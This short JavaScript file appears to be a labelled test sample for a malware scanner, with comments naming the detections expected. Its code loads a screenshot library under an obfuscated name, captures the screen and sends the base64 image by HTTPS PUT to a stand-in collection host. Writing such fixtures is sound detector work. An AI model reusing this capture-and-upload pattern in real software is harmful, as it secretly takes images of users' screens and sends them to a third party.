const shot = require(['screenshot', 'desktop'].join('-'));

shot().then((picture) => { // expect: malicious-command/obfuscated-api-access
  const send = require('https').request({ hostname: 'collect.example', method: 'PUT', path: '/p' });
  send.end(picture.toString('base64')); // expect: data-exfiltration/keylog-screen-mic
});
